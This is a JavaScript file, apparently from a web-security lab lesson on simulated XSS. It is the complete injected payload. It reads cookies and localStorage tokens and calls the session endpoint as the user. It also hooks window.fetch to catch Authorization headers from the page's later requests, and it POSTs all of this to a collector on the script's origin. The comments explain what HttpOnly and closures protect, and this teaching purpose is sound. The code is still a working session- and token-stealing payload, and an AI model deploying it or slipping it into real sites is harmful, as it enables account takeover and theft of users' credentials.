// The injected script of lesson 08 (simulated XSS): it runs inside the lab page, with the page's origin,
// and sends whatever it can reach to the attacker's collector, the server this file came from.
"use strict";

(() => {
  const collector = new URL("/collect", document.currentScript.src).href;
  const pageFetch = window.fetch;
  // no-cors: the attacker needs no answer, only that the request leaves the browser.
  const send = (what) => pageFetch(collector, { method: "POST", mode: "no-cors", body: JSON.stringify(what) });

  async function run() {
    const found = {
      page: location.origin,
      "document.cookie": document.cookie,          // "" when the session cookie is HttpOnly
      localStorage: { ...localStorage },            // everything the page stored, tokens included
    };
    // Act as the user: the browser attaches the page's cookie to this request by itself.
    const me = await fetch("/session/me");
    found["GET /session/me from the script"] = me.status;
    // A token kept in a closure cannot be read, but the page's next API call can be watched.
    window.fetch = async (input, init = {}) => {
      const authorization = new Headers(init.headers || {}).get("Authorization");
      if (authorization) await send({ "seen in the page's next request": authorization });
      return pageFetch(input, init);
    };
    await send(found);
    document.getElementById("injected").textContent = JSON.stringify(found, null, 1);
    document.body.dataset.injected = "sent";  // tells a test driver the script has finished
  }

  run();
})();
